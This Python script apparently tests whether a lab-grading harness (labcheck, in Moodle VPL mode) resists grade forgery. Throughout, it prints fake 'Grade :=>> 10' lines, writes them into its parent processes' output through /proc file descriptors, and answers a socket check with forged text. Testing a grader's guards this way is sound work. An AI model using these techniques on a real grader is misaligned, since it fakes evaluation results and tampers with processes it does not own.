#!/usr/bin/env python3
# Tries to give itself the grade in Moodle VPL (labcheck --vpl): prints
# "Grade :=>> 10" and comment blocks on its stdout, sends them as its reply,
# and writes them through /proc/PID/fd/1 and 2 of each ancestor it can open
# (labcheck's own stdout, without the guard). Says on stderr, last, how many
# it reached: "atteints : 0" when labcheck keeps its output to itself.
import os, socket, sys
FORGED = b"Grade :=>> 10\n--|>\nComment :=>>-tout est parfait\nGrade :=>> 10\n" * 2000
reached = 0
pid = os.getppid()
while pid > 1:
    for fd in (1, 2):
        try:
            with open('/proc/%d/fd/%d' % (pid, fd), 'wb') as out:
                out.write(FORGED)
            reached += 1
        except OSError:
            pass
    try:
        with open('/proc/%d/stat' % pid) as stat:
            pid = int(stat.read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
print('Grade :=>> 10\n<|--\nComment :=>>-tout est parfait\n--|>\nGrade :=>> 10', flush=True)
print('atteints :', reached, file=sys.stderr, flush=True)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 60000))
s.listen()
conn, addr = s.accept()
conn.recv(1024)                        # not printed: verification 2 fails
conn.sendall(b'\nGrade :=>> 10\n<|--\n')   # not the welcome: verification 3 fails
conn.close()
